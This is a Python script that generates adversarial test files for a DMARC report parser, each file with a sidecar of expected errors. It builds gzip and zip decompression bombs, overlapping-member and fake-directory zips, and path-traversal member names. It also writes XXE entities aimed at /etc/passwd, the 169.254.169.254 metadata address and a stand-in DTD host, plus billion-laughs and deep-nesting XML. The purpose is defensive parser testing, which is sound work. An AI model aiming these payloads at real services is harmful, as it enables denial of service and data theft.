#!/usr/bin/env python3
"""make-cases.py - regenerate the adversarial inputs in tests/data/adversarial.

Each case is a data file NAME.EXT plus a sidecar NAME.expect read by
tests/data/adversarial.sh:

    # what this case proves (one sentence)
    args: extra `dmarcd parse` arguments (optional)
    exit: expected exit status
    kind: unknown|aggregate|failure|tlsrpt (optional)
    error: regex the summary's errors, joined by newlines, must match
    warning: regex the joined warnings must match (optional)
    records: expected record count (optional)
    seconds: wall-clock limit for this case (optional, default 30)

Regexes are Python `re` (ERE plus (?i)); the runner uses re.search with
re.M, so ^ anchors at the start of any one error or warning.

The generated files are committed and the test reads them, not this
script: run it only to change a case, then review `git diff --stat` (the
bytes depend on the zlib version, the behaviour does not). Standard
library only, deterministic (no time stamps, no randomness without a
fixed seed). It also rewrites tests/data/local.mk, because automake needs
every distributed file by name.

Usage: python3 tests/data/adversarial/make-cases.py [OUTDIR]
"""

import base64
import os
import random
import struct
import sys
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.abspath(sys.argv[1]) if len(sys.argv) > 1 else HERE
LOCAL_MK = os.path.join(os.path.dirname(HERE), "local.mk")
MAX_FILE = 200 * 1024 + 4096        # keep the repository small

MiB = 1 << 20
cases = []                           # (data file name, expect file name)


# --------------------------------------------------------------- builders

def report(org="adversary.example", report_id="adv-0001",
           begin="1700000000", end="1700086399", metadata_extra="",
           policy=True, records=None, date_range=None):
    """A small, valid RFC 7489 aggregate report (as bytes)."""
    if records is None:
        records = [record()]
    rid = "" if report_id is None else \
        "    <report_id>%s</report_id>\n" % report_id
    if date_range is None:
        date_range = ("    <date_range><begin>%s</begin>"
                      "<end>%s</end></date_range>\n" % (begin, end))
    pol = ""
    if policy:
        pol = ("  <policy_published>\n"
               "    <domain>example.com</domain><adkim>r</adkim>"
               "<aspf>r</aspf>\n"
               "    <p>none</p><sp>none</sp><pct>100</pct>\n"
               "  </policy_published>\n")
    return ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
            "<feedback>\n"
            "  <version>1.0</version>\n"
            "  <report_metadata>\n"
            "    <org_name>%s</org_name>\n"
            "    <email>noreply-dmarc@adversary.example</email>\n"
            "%s%s%s"
            "  </report_metadata>\n"
            "%s%s"
            "</feedback>\n" % (org, rid, date_range, metadata_extra, pol,
                               "".join(records))).encode()


def record(ip="192.0.2.1", count="3", count_elem=None):
    if count_elem is None:
        count_elem = "<count>%s</count>" % count
    return ("  <record>\n"
            "    <row>\n"
            "      <source_ip>%s</source_ip>%s\n"
            "      <policy_evaluated><disposition>none</disposition>"
            "<dkim>pass</dkim><spf>pass</spf></policy_evaluated>\n"
            "    </row>\n"
            "    <identifiers><header_from>example.com</header_from>"
            "</identifiers>\n"
            "    <auth_results>\n"
            "      <dkim><domain>example.com</domain><selector>s1</selector>"
            "<result>pass</result></dkim>\n"
            "      <spf><domain>example.com</domain><result>pass</result>"
            "</spf>\n"
            "    </auth_results>\n"
            "  </record>\n" % (ip, count_elem))


def report_head():
    """Everything of report() up to the first record."""
    full = report(records=[])
    return full[:full.rindex(b"</feedback>")]


def record_stream(total):
    """Yield `total` bytes of a report with as many records as fit, in
    chunks. Repeated records deflate only about 230:1 (each 258-byte match
    pays for a long distance), under the ratio cap: use it where the
    other caps are the point."""
    head = report_head()
    rec = record().encode()
    yield head
    done = len(head)
    block = rec * (MiB // len(rec))
    while done + len(block) <= total:
        yield block
        done += len(block)
    left = total - done
    yield (rec * (left // len(rec) + 1))[:left]


def comment_bomb(total):
    """Yield `total` bytes: a valid report head and one record, then a
    comment of spaces that never ends. Deflate packs it about 1000:1 and
    no XML cap of dmarcd (text, attribute, depth) applies to a comment,
    so the ratio cap is what has to stop it."""
    head = report_head() + record().encode() + b"  <!-- "
    yield head
    done = len(head)
    block = b" " * MiB
    while done + len(block) <= total:
        yield block
        done += len(block)
    yield b" " * (total - done)


def deflate(chunks, wbits, level=9):
    """Compress an iterable of byte strings (wbits: 31 gzip, 15 zlib,
    -15 raw deflate). zlib's own gzip header has mtime 0, no name."""
    c = zlib.compressobj(level, zlib.DEFLATED, wbits, 9)
    out = [c.compress(b) for b in chunks]
    out.append(c.flush())
    return b"".join(out)


def gz(data):
    return deflate([data], 31)


def crc_and_size(chunks):
    crc, size = 0, 0
    for b in chunks:
        crc = zlib.crc32(b, crc)
        size += len(b)
    return crc, size


DOS_DATE = (0 << 11) | (0 << 5) | 0          # 00:00:00
DOS_DAY = ((1980 - 1980) << 9) | (1 << 5) | 1  # 1980-01-01


class Zip:
    """A minimal zip writer that lets a case lie: wrong CRC, wrong sizes,
    overlapping members, encrypted flag, any member name."""

    def __init__(self):
        self.body = bytearray()
        self.central = []

    def local(self, name, payload, method, crc, csize, usize, flags=0):
        off = len(self.body)
        n = name.encode()
        self.body += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, flags,
                                 method, DOS_DATE, DOS_DAY, crc, csize,
                                 usize, len(n), 0) + n + payload
        return off

    def entry(self, name, off, method, crc, csize, usize, flags=0,
              external=0):
        self.central.append((name.encode(), off, method, crc, csize, usize,
                             flags, external))

    def add(self, name, data, method=8, crc=None, usize=None, flags=0,
            payload=None, external=0):
        if payload is None:
            payload = deflate([data], -15) if method == 8 else data
        if crc is None:
            crc = zlib.crc32(data)
        if usize is None:
            usize = len(data)
        off = self.local(name, payload, method, crc, len(payload), usize,
                         flags)
        self.entry(name, off, method, crc, len(payload), usize, flags,
                   external)
        return off

    def directory(self, central=None):
        cd = bytearray()
        for (n, off, method, crc, csize, usize, flags, ext) in \
                (self.central if central is None else central):
            cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 0x031e, 20,
                              flags, method, DOS_DATE, DOS_DAY, crc, csize,
                              usize, len(n), 0, 0, 0, 0, ext, off) + n
        return bytes(cd)

    def bytes(self, count_override=None):
        cd = self.directory()
        count = len(self.central) if count_override is None \
            else count_override
        return bytes(self.body) + cd + eocd(count, len(cd), len(self.body))


def eocd(count, cd_size, cd_offset, comment=b""):
    """An end of central directory record (APPNOTE 4.3.16)."""
    return struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, count, count, cd_size,
                       cd_offset, len(comment)) + comment


def zip64(members, shared=False, real_end=True):
    """A zip64 archive (APPNOTE 4.3.14, 4.3.15, 4.5.3): every size and
    offset of the headers is 0xffffffff with the real value in the zip64
    extra field, and a zip64 end record and locator before the end record.
    members: (name, data); shared: every central entry points at the first
    local header (overlap); real_end: the plain end record holds the real
    count, size and offset too (as it may when they fit), else 0xffff and
    0xffffffff."""
    body = bytearray()
    central = []
    for name, data in members:
        n = name.encode()
        payload = deflate([data], -15)
        crc = zlib.crc32(data)
        if shared and central:
            off = central[0][1]
        else:
            off = len(body)
            extra = struct.pack("<HHQQ", 1, 16, len(data), len(payload))
            body += struct.pack("<IHHHHHIIIHH", 0x04034b50, 45, 0, 8,
                                DOS_DATE, DOS_DAY, crc, 0xffffffff,
                                0xffffffff, len(n), len(extra)) + n + \
                extra + payload
        central.append((n, off, crc, len(payload), len(data)))
    cd = bytearray()
    for n, off, crc, csize, usize in central:
        extra = struct.pack("<HHQQQ", 1, 24, usize, csize, off)
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 0x032d, 45, 0,
                          8, DOS_DATE, DOS_DAY, crc, 0xffffffff, 0xffffffff,
                          len(n), len(extra), 0, 0, 0, 0, 0xffffffff) + \
            n + extra
    cd_offset = len(body)
    z64_offset = cd_offset + len(cd)
    count = len(central)
    z64 = struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 0x032d, 45, 0, 0,
                      count, count, len(cd), cd_offset)
    locator = struct.pack("<IIQI", 0x07064b50, 0, z64_offset, 1)
    if real_end:
        end = eocd(count, len(cd), cd_offset)
    else:
        end = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 0xffff, 0xffff,
                          0xffffffff, 0xffffffff, 0)
    return bytes(body) + bytes(cd) + z64 + locator + end


def zip_one(name, data):
    z = Zip()
    z.add(name, data)
    return z.bytes()


# PKWARE "traditional" encryption (APPNOTE 6.1), enough to make a member
# that a real unzipper decrypts with the password; dmarcd has none.
def _crc_byte(crc, b):
    return ~zlib.crc32(bytes([b]), ~crc & 0xffffffff) & 0xffffffff


def zipcrypto(data, password, check_byte):
    k = [0x12345678, 0x23456789, 0x34567890]

    def update(c):
        k[0] = _crc_byte(k[0], c)
        k[1] = ((k[1] + (k[0] & 0xff)) * 134775813 + 1) & 0xffffffff
        k[2] = _crc_byte(k[2], k[1] >> 24)

    def stream_byte():
        t = (k[2] | 2) & 0xffff
        return ((t * (t ^ 1)) >> 8) & 0xff

    for c in password:
        update(c)
    header = bytes(random.Random(7).randrange(256) for _ in range(11)) + \
        bytes([check_byte])
    out = bytearray()
    for p in header + data:
        out.append(p ^ stream_byte())
        update(p)
    return bytes(out)


def mail(headers, body):
    h = "".join("%s: %s\r\n" % kv for kv in headers)
    return (h + "\r\n").encode() + body


def b64lines(data):
    s = base64.b64encode(data).decode()
    return "\r\n".join(s[i:i + 76] for i in range(0, len(s), 76)) + "\r\n"


def report_mail(attachment, ctype="application/gzip",
                filename="adversary.example!example.com!1700000000!"
                         "1700086399.xml.gz",
                subject="Report Domain: example.com Submitter: "
                        "adversary.example Report-ID: adv-0001",
                b64=None, boundary="=_adv_boundary"):
    if b64 is None:
        b64 = b64lines(attachment)
    body = ("This is a multi-part message in MIME format.\r\n"
            "--%s\r\n"
            "Content-Type: text/plain; charset=us-ascii\r\n\r\n"
            "DMARC aggregate report for example.com.\r\n"
            "--%s\r\n"
            "Content-Type: %s; name=\"%s\"\r\n"
            "Content-Disposition: attachment; filename=\"%s\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n"
            "%s"
            "--%s--\r\n" % (boundary, boundary, ctype, filename, filename,
                            b64, boundary)).encode()
    return mail([("From", "noreply-dmarc@adversary.example"),
                 ("To", "dmarc@example.com"),
                 ("Subject", subject),
                 ("Date", "Wed, 15 Nov 2023 00:00:00 +0000"),
                 ("Message-ID", "<adv-0001@adversary.example>"),
                 ("MIME-Version", "1.0"),
                 ("Content-Type", "multipart/mixed; boundary=\"%s\""
                  % boundary)], body)


# ------------------------------------------------------------------ cases

def case(name, ext, data, proves, error, exit=65, args=None, kind=None,
         warning=None, records=None, seconds=None):
    fname = name + "." + ext
    assert "." not in name and "/" not in name, name
    assert len(data) <= MAX_FILE, (fname, len(data))
    with open(os.path.join(OUT, fname), "wb") as f:
        f.write(data)
    lines = ["# " + proves]
    if args:
        lines.append("args: " + args)
    lines.append("exit: %d" % exit)
    if kind:
        lines.append("kind: " + kind)
    if error is not None:
        lines.append("error: " + error)
    if warning:
        lines.append("warning: " + warning)
    if records is not None:
        lines.append("records: %d" % records)
    if seconds is not None:
        lines.append("seconds: %d" % seconds)
    with open(os.path.join(OUT, name + ".expect"), "w") as f:
        f.write("\n".join(lines) + "\n")
    cases.append((fname, name + ".expect"))


DOCTYPE_REFUSED = r"the document has a DOCTYPE declaration: DTDs and " \
    r"entities are refused"
RATIO = r"a ratio above the limit of 250:1"
NOT_A_REPORT = r"plain text, not a DMARC report"


def build():
    ok_report = report()

    # --- control: the template the semantic cases mutate is valid.
    case("control-valid-report", "xml", ok_report,
         "the report template every semantic case mutates parses cleanly, "
         "so each rejection below comes from its one defect",
         error=None, exit=0, kind="aggregate", records=1)

    # --- decompression bombs -------------------------------------------
    case("gzip-bomb-200mib", "xml.gz",
         deflate(comment_bomb(200 * MiB), 31),
         "a 200 KB gzip of a report that goes on with a 200 MiB comment is "
         "refused by the 250:1 ratio cap, not inflated to the end",
         error=r"^gzip: gzip expands \d+ bytes to over \d+ bytes, " + RATIO)

    case("gzip-bomb-200mib-zeros", "gz",
         deflate((b"\0" * MiB for _ in range(200)), 31),
         "a gzip of 200 MiB of zero bytes is refused at once (binary, not "
         "a report, or the ratio cap), never inflated in full",
         error=r"^gzip: (unrecognised binary data \(first bytes 00 00|"
               r".*" + RATIO + ")")

    inner = deflate(comment_bomb(1024 * MiB), 31)
    case("gzip-in-gzip-bomb-1gib", "xml.gz.gz", gz(inner),
         "a gzip whose content is a 1 MB gzip of a 1 GiB report is "
         "refused by the ratio cap of the inner layer",
         error=r"^gzip: gzip: gzip expands \d+ bytes .*" + RATIO)

    z = Zip()
    z.add("report.xml", None, payload=deflate(comment_bomb(200 * MiB), -15),
          crc=crc_and_size(comment_bomb(200 * MiB))[0], usize=200 * MiB)
    case("zip-bomb-200mib", "zip", z.bytes(),
         "a zip member that inflates a 200 MiB report from 200 KB is "
         "refused by the ratio cap",
         error=r"^zip member 'report\.xml': zip member expands \d+ bytes "
               r"to \d+, " + RATIO)

    # Many short comments: no single XML token grows, so only the ratio
    # (or a check of the declared size) can stop it.
    def short_comments(total):
        head = report_head() + record().encode()
        yield head
        unit = b"<!---->"
        count = (total - len(head)) // len(unit)
        while count > 0:
            k = min(count, MiB // len(unit))
            yield unit * k
            count -= k
        yield b"</feedback>\n"
    z = Zip()
    z.add("report.xml", None, payload=deflate(short_comments(120 * MiB), -15),
          crc=crc_and_size(short_comments(120 * MiB))[0], usize=1000)
    case("zip-bomb-lying-size", "zip", z.bytes(),
         "a zip member whose headers claim 1000 bytes but whose stream "
         "inflates to 120 MiB is stopped by the ratio cap or the declared "
         "size, not trusted",
         error=r"^zip member 'report\.xml': .*(" + RATIO + r"|declared)")

    # Overlapping members (Fifield's non-recursive zip bomb): 256 central
    # entries share one local entry, a complete ~900 KiB report that
    # deflates about 230:1, under the per-member cap; the archive as a
    # whole expands 18 KB to 225 MiB.
    z = Zip()
    per = len(record().encode())
    shared = report(records=[record()] * (900 * 1024 // per - 2))
    payload = deflate([shared], -15)
    crc = zlib.crc32(shared)
    off = z.local("r000.xml", payload, 8, crc, len(payload), len(shared))
    for i in range(256):
        z.entry("r%03d.xml" % i, off, 8, crc, len(payload), len(shared))
    case("zip-overlapping-members", "zip", z.bytes(),
         "256 zip entries that all point at one small deflate stream "
         "(225 MiB from 18 KB) are refused from the central directory "
         "as overlapping, before any member is read (records 0)",
         error=r"^zip members 'r000\.xml' and 'r001\.xml' overlap \(local "
               r"headers at byte offsets 0 and 0\): refused before any "
               r"member is read",
         records=0)

    # Two entries for one valid report: under every size and ratio cap,
    # so only the overlap check keeps it from being read twice.
    z = Zip()
    payload = deflate([ok_report], -15)
    crc = zlib.crc32(ok_report)
    off = z.local("a.xml", payload, 8, crc, len(payload), len(ok_report))
    z.entry("a.xml", off, 8, crc, len(payload), len(ok_report))
    z.entry("b.xml", off, 8, crc, len(payload), len(ok_report))
    case("zip-overlapping-two-small", "zip", z.bytes(),
         "two small entries sharing one local header (no cap is near) are "
         "refused as overlapping, not read as two reports",
         error=r"^zip members 'a\.xml' and 'b\.xml' overlap \(local "
               r"headers at byte offsets 0 and 0\)",
         records=0)

    # A second end record in the archive comment: the last one (what a
    # reader searching backwards takes) shows a clean directory of one
    # entry, the first one (what libzip may take) the overlapping one.
    z = Zip()
    payload = deflate([ok_report], -15)
    crc = zlib.crc32(ok_report)
    off = z.local("a.xml", payload, 8, crc, len(payload), len(ok_report))
    clean = z.directory([(b"a.xml", off, 8, crc, len(payload),
                          len(ok_report), 0, 0)])
    overlapping = z.directory([(b"a.xml", off, 8, crc, len(payload),
                                len(ok_report), 0, 0),
                               (b"b.xml", off, 8, crc, len(payload),
                                len(ok_report), 0, 0)])
    clean_at = len(z.body)
    overlapping_at = clean_at + len(clean)
    fake_at = overlapping_at + len(overlapping) + 22
    data = bytes(z.body) + clean + overlapping + \
        eocd(2, len(overlapping), overlapping_at,
             comment=eocd(1, len(clean), clean_at))
    case("zip-overlap-behind-fake-eocd", "zip", data,
         "an overlapping directory whose end record carries, in its "
         "comment, a second end record that shows a clean directory is "
         "refused for its two directories, whichever one a reader takes",
         error=r"^zip archive has end records \(at byte offsets %d and "
               r"%d\) that describe different central directories \(at "
               r"byte offsets %d and %d\): refused before any member is "
               r"read" % (fake_at - 22, fake_at, overlapping_at, clean_at),
         records=0)

    # Zip64: the real sizes and offsets are in the zip64 extra fields
    # and the zip64 end record; read like the plain zip.
    second = report(report_id="adv-0002")
    case("zip64-two-reports", "zip",
         zip64([("a.xml", ok_report), ("b.xml", second)]),
         "a zip64 archive of two reports (sizes and offsets 0xffffffff in "
         "the headers, real in the zip64 extra fields; zip64 end record "
         "and locator) is read like the plain zip, not refused as "
         "overlapping",
         error=None, exit=0, kind="aggregate", records=2)
    case("zip64-sentinel-end", "zip",
         zip64([("a.xml", ok_report), ("b.xml", second)], real_end=False),
         "a zip64 archive whose plain end record holds only 0xffff and "
         "0xffffffff (the directory is found through the zip64 end "
         "record) is read like the plain zip",
         error=None, exit=0, kind="aggregate", records=2)
    case("zip64-overlapping-members", "zip",
         zip64([("a.xml", ok_report), ("b.xml", ok_report)], shared=True,
               real_end=False),
         "two zip64 entries sharing one local header, found only through "
         "the zip64 end record and extra fields, are refused as "
         "overlapping",
         error=r"^zip members 'a\.xml' and 'b\.xml' overlap \(local "
               r"headers at byte offsets 0 and 0\)",
         records=0)

    # One member over its cap beside a good one: the bomb gets its own
    # error, the good report is still read (as before the directory
    # checks), and the input counts as rejected.
    z = Zip()
    z.add("report.xml", ok_report)
    z.add("bomb.xml", None, payload=deflate(comment_bomb(16 * MiB), -15),
          crc=crc_and_size(comment_bomb(16 * MiB))[0], usize=16 * MiB)
    case("zip-bomb-member-beside-report", "zip", z.bytes(),
         "a zip holding a good report and a member that expands over the "
         "ratio cap: the bomb member is refused with its own error, the "
         "report beside it is still read (records 1), exit 65",
         error=r"^zip member 'bomb\.xml': zip member expands \d+ bytes "
               r"to \d+, " + RATIO,
         records=1)

    # B's local header sits inside A's compressed data.
    z = Zip()
    inner = zip_one("report.xml", ok_report)
    off_a = z.local("outer.bin", inner, 0, zlib.crc32(inner), len(inner),
                    len(inner))
    z.entry("outer.bin", off_a, 0, zlib.crc32(inner), len(inner),
            len(inner))
    payload = deflate([ok_report], -15)
    z.entry("report.xml", off_a + 30 + len("outer.bin"), 8,
            zlib.crc32(ok_report), len(payload), len(ok_report))
    case("zip-member-inside-member", "zip", z.bytes(),
         "an entry whose local header lies inside another member's data "
         "is refused as overlapping",
         error=r"^zip members 'outer\.bin' and 'report\.xml' overlap "
               r"\(local headers at byte offsets 0 and 39\)",
         records=0)

    # Three complete reports of 400 KiB: each fits --max-bytes 1M, all
    # three do not. Refused from the central directory, so not even the
    # first (valid) member is parsed.
    z = Zip()
    member = b"".join(record_stream(400 * 1024))
    member = member[:member.rindex(b"</record>") + len(b"</record>\n")] + \
        b"</feedback>\n"
    for i in range(3):
        z.add("r%d.xml" % i, member)
    case("zip-members-total-over-max-bytes", "zip", z.bytes(),
         "a zip whose members declare more than --max-bytes together is "
         "refused before any member is read, though each alone fits",
         args="--max-bytes 1M --max-ratio 0",
         error=r"^zip archive declares \d+ bytes in 3 members, more than "
               r"the limit of 1048576 \(decompression bomb\?\): no member "
               r"read",
         records=0)

    z = Zip()
    for i in range(300):
        z.add("m%03d.xml" % i, b"<a/>", method=0)
    case("zip-300-members", "zip", z.bytes(),
         "a zip with 300 members is refused at the 256-member cap",
         error=r"^zip archive has 300 members, more than the limit of 256")

    data = ok_report
    for depth in range(8):
        data = zip_one("level%d.zip" % depth if depth else "report.xml",
                       data)
    case("zip-nested-8-deep", "zip", data,
         "a report inside 8 nested zips is refused at the container "
         "depth cap of 6, and the error walks the member names",
         error=r"^zip member 'level7\.zip': .*zip member 'level1\.zip': "
               r"containers nested deeper than 6 levels")

    data = ok_report
    for _ in range(8):
        data = gz(data)
    case("gzip-nested-8-deep", "gz", data,
         "a report inside 8 nested gzip layers is refused at the container "
         "depth cap of 6",
         error=r"^(gzip: )+containers nested deeper than 6 levels")

    body = b"".join(record_stream(5 * MiB))
    case("max-bytes-exceeded", "xml.gz", gz(body),
         "a 5 MiB report run with --max-bytes 1M (ratio check off) is "
         "refused by the decompressed-size cap",
         args="--max-bytes 1M --max-ratio 0",
         error=r"^gzip: decompressed size exceeds the limit of 1048576 "
               r"bytes")

    # --- broken containers ---------------------------------------------
    g = gz(ok_report)
    case("gzip-truncated", "xml.gz", g[:len(g) // 2],
         "a gzip cut in half is reported as truncated, not as an empty or "
         "partial report",
         error=r"^gzip: gzip stream truncated: input ends after \d+ "
               r"compressed bytes")

    g = bytearray(gz(ok_report))
    g[-8] ^= 0xff
    case("gzip-bad-crc", "xml.gz", bytes(g),
         "a gzip whose CRC-32 trailer does not match its data is refused "
         "as corrupt (zlib: 'incorrect data check')",
         error=r"^gzip: gzip data corrupt after \d+ compressed bytes: "
               r"incorrect data check")

    rnd = random.Random(1)
    case("gzip-magic-then-garbage", "gz",
         b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" +
         bytes(rnd.randrange(256) for _ in range(4096)),
         "gzip magic followed by random bytes is a clear inflate error",
         error=r"^gzip: gzip data corrupt after \d+ compressed bytes")

    case("gzip-header-name-unterminated", "gz",
         b"\x1f\x8b\x08\x08\x00\x00\x00\x00\x00\x03" + b"A" * 100000,
         "a gzip header whose FNAME field never ends is a truncated gzip, "
         "not an unbounded read",
         error=r"^gzip: gzip stream truncated")

    case("gzip-trailing-garbage", "xml.gz",
         gz(ok_report) + b"this is not gzip data\r\n" * 200,
         "4.6 KB of junk after a complete gzip member is ignored with a "
         "warning, never silently (the report itself is fine)",
         exit=0, kind="aggregate", records=1,
         error=None,
         warning=r"^gzip: 4600 bytes of trailing data after the end of the "
                 r"gzip stream ignored")

    zl = deflate([ok_report], 15)
    case("zlib-truncated", "xml.z", zl[:len(zl) // 2],
         "a raw zlib stream cut in half is reported as truncated",
         error=r"^zlib: zlib stream truncated")

    zb = zip_one("report.xml", ok_report)
    case("zip-truncated", "zip", zb[:len(zb) * 2 // 3],
         "a zip cut before its central directory is refused as a broken "
         "zip",
         error=r"^unreadable zip archive")

    z = Zip()
    z.add("report.xml", ok_report, crc=zlib.crc32(ok_report) ^ 0x5a5a5a5a)
    case("zip-bad-crc", "zip", z.bytes(),
         "a zip member whose CRC-32 does not match its data is refused",
         error=r"^zip member 'report\.xml': .*CRC error")

    z = Zip()
    z.add("report.xml", ok_report)
    case("zip-cd-count-lie", "zip", z.bytes(count_override=65535),
         "a zip whose end record claims 65535 entries but holds one is "
         "refused as inconsistent",
         error=r"^unreadable zip archive: Zip archive inconsistent")

    z = Zip()
    z.add("../../etc/passwd.xml", b"root:x:0:0:root:/root:/bin/bash\n"
          b"daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n")
    case("zip-path-traversal-member", "zip", z.bytes(),
         "a zip member named ../../etc/passwd.xml is only read, never "
         "written anywhere, and the error names that member",
         error=r"^zip member '\.\./\.\./etc/passwd\.xml': " + NOT_A_REPORT)

    z = Zip()
    z.add("/tmp/dmarcd-adversarial-absolute.xml", ok_report)
    z.add("C:\\dmarcd\\evil.xml", b"not a report\n")
    case("zip-absolute-member-names", "zip", z.bytes(),
         "members with absolute names are parsed from memory (the report "
         "counts), nothing is written, and the non-report member is named",
         error=r"^zip member 'C:\\dmarcd\\evil\.xml': " + NOT_A_REPORT,
         kind="aggregate", records=1)

    z = Zip()
    data = ok_report
    payload = zipcrypto(deflate([data], -15), b"infected",
                        zlib.crc32(data) >> 24)
    z.add("report.xml", data, payload=payload, flags=1)
    case("zip-encrypted-member", "zip", z.bytes(),
         "an encrypted zip member is refused with a clear 'encrypted' "
         "error (there is no password to try)",
         error=r"^zip member 'report\.xml': encrypted zip member")

    z = Zip()
    z.add("reports/", b"", method=0, external=0x10 | (0o40755 << 16))
    case("zip-only-directory", "zip", z.bytes(),
         "a zip holding only a directory entry yields 'no report', not "
         "success",
         error=r"^zip archive holds no report \(1 member\(s\), 1 skipped")

    case("zip-empty", "zip", Zip().bytes(),
         "an empty zip (end record only) yields 'no report', not success",
         error=r"^zip archive holds no report \(0 member")

    # --- not a report at all -------------------------------------------
    case("gzip-yahoo-unused", "xml.gz", gz(b"unused"),
         "a Yahoo/AOL 2023 placeholder gzip whose content is the text "
         "'unused' is classified as known junk, not XML",
         error=r"^gzip: the placeholder text 'unused' instead of a report",
         kind="unknown")

    case("html-instead-of-xml", "html",
         b"<!DOCTYPE html>\n<html><head><title>DMARC report preview"
         b"</title></head>\n<body><h1>Your DMARC report</h1>"
         b"<p>View it on our dashboard.</p></body></html>\n",
         "an HTML page served instead of the XML report is refused as "
         "HTML, not parsed",
         error=r"^an HTML document, not a DMARC report", kind="unknown")

    case("html-no-doctype", "html",
         b"<html><head><title>Report</title></head><body>"
         b"<table><tr><td>192.0.2.1</td><td>3</td></tr></table>"
         b"</body></html>\n",
         "an HTML page without a DOCTYPE is still refused as HTML",
         error=r"^an HTML document, not a DMARC report", kind="unknown")

    case("xml-no-feedback-root", "xml",
         b"<?xml version=\"1.0\"?>\n<report><org_name>x</org_name>"
         b"<record><count>1</count></record></report>\n",
         "well-formed XML whose root is not <feedback> is refused and the "
         "error names the root",
         error=r"^the XML root element is <report>, not <feedback>",
         kind="unknown")

    case("xml-declaration-only", "xml", b"<?xml version=\"1.0\"?>\n",
         "an XML declaration with no element at all is refused",
         error=r"^no XML element found", kind="unknown")

    case("empty-file", "xml", b"",
         "a zero-byte input is an error that says it is empty",
         error=r"^empty: no bytes at all", kind="unknown")

    case("plain-text", "txt",
         b"Hello,\n\nThis is not a DMARC report, just a note.\n",
         "plain text is refused as not a report",
         error=r"^" + NOT_A_REPORT, kind="unknown")

    case("nul-bytes-only", "bin", b"\0" * 4096,
         "4 KiB of NUL bytes is refused as binary, not a report",
         error=r"^unrecognised binary data \(first bytes 00 00",
         kind="unknown")

    case("json-not-tlsrpt", "json",
         b"{\"hello\": \"world\", \"items\": [1, 2, 3]}\n",
         "JSON that is not a TLS-RPT report is refused, not counted as "
         "TLS-RPT",
         error=r"^a JSON document, not a DMARC report", kind="unknown")

    case("tlsrpt-truncated", "json",
         b"{\"organization-name\":\"Adversary Inc.\",\"date-range\":"
         b"{\"start-datetime\":\"2023-11-15T00:00:00Z\",\"end-datetime\":"
         b"\"2023-11-15T23:59:59Z\"},\"contact-info\":\"tls@advers",
         "a TLS-RPT JSON cut mid-string is an error that says the JSON is "
         "broken, not just 'TLS-RPT not stored'",
         error=r"(?i)json.*(truncat|invalid|incomplete|unexpected end|"
               r"premature|not well-formed)|"
               r"(truncat|invalid|incomplete|broken).*json")

    # --- hostile XML ---------------------------------------------------
    case("xxe-system-entity", "xml",
         b"<?xml version=\"1.0\"?>\n"
         b"<!DOCTYPE feedback [\n"
         b"  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n" +
         report(org="&xxe;").split(b"\n", 1)[1],
         "an XXE SYSTEM entity is refused at the DOCTYPE and no file is "
         "read into the output",
         error=r"^line 2, column \d+, in <document>: " + DOCTYPE_REFUSED,
         kind="unknown")

    case("xxe-http-entity", "xml",
         b"<?xml version=\"1.0\"?>\n"
         b"<!DOCTYPE feedback [\n"
         b"  <!ENTITY xxe SYSTEM \"http://169.254.169.254/latest/"
         b"meta-data/\">\n]>\n" +
         report(org="&xxe;").split(b"\n", 1)[1],
         "an XXE SYSTEM entity with an http:// URL is refused at the "
         "DOCTYPE: nothing is fetched (no request to the metadata address)",
         error=r"^line 2, column \d+, in <document>: " + DOCTYPE_REFUSED,
         kind="unknown")

    lol = [b"<!ENTITY lol \"lol\">"]
    for i in range(1, 10):
        prev = b"lol" if i == 1 else b"lol%d" % (i - 1)
        lol.append(b"<!ENTITY lol%d \"%s\">" %
                   (i, b"".join(b"&" + prev + b";" for _ in range(10))))
    case("billion-laughs", "xml",
         b"<?xml version=\"1.0\"?>\n<!DOCTYPE feedback [\n" +
         b"\n".join(lol) + b"\n]>\n" +
         report(org="&lol9;").split(b"\n", 1)[1],
         "billion laughs (10^9 nested entity expansions) is refused at the "
         "DOCTYPE, quickly and in little memory",
         error=DOCTYPE_REFUSED, kind="unknown")

    big = b"A" * 30000
    case("quadratic-blowup", "xml",
         b"<?xml version=\"1.0\"?>\n<!DOCTYPE feedback [\n"
         b"<!ENTITY a \"" + big + b"\">\n]>\n" +
         report(org="&a;" * 3000).split(b"\n", 1)[1],
         "one 30 KB entity referenced 3000 times (quadratic blowup) is "
         "refused at the DOCTYPE",
         error=DOCTYPE_REFUSED, kind="unknown")

    case("external-dtd", "xml",
         b"<?xml version=\"1.0\"?>\n"
         b"<!DOCTYPE feedback SYSTEM \"http://dtd.adversary.example/"
         b"dmarc.dtd\">\n" + ok_report.split(b"\n", 1)[1],
         "a DOCTYPE naming an external DTD is refused, never fetched",
         error=DOCTYPE_REFUSED, kind="unknown")

    case("xxe-parameter-entity", "xml",
         b"<?xml version=\"1.0\"?>\n"
         b"<!DOCTYPE feedback [\n"
         b"  <!ENTITY % remote SYSTEM \"http://dtd.adversary.example/x\">\n"
         b"  %remote;\n]>\n" + ok_report.split(b"\n", 1)[1],
         "an external parameter entity is refused at the DOCTYPE, never "
         "fetched",
         error=DOCTYPE_REFUSED, kind="unknown")

    deep = b"<?xml version=\"1.0\"?>\n<feedback>" + b"<a>" * 100000 + \
        b"x" + b"</a>" * 100000 + b"</feedback>\n"
    case("nesting-100k-deep", "xml.gz", gz(deep),
         "100000 nested elements are refused at the depth cap of 32, "
         "without recursion blowing the stack",
         error=r"^gzip: line 2, column \d+, in <a>: elements nested deeper "
               r"than 32 levels")

    # one text node of 100 MB inside <org_name> of the metadata
    head = report(records=[]).split(b"<org_name>")[0] + b"<org_name>"
    tail = b"</org_name>\n  </report_metadata>\n</feedback>\n"
    chunks = [head] + [b"A" * (10 ** 6)] * 100 + [tail]
    case("text-node-100mb", "xml.gz", deflate(chunks, 31),
         "a 100 MB text node (ratio check off) is refused at the 64 KiB "
         "text cap, not buffered",
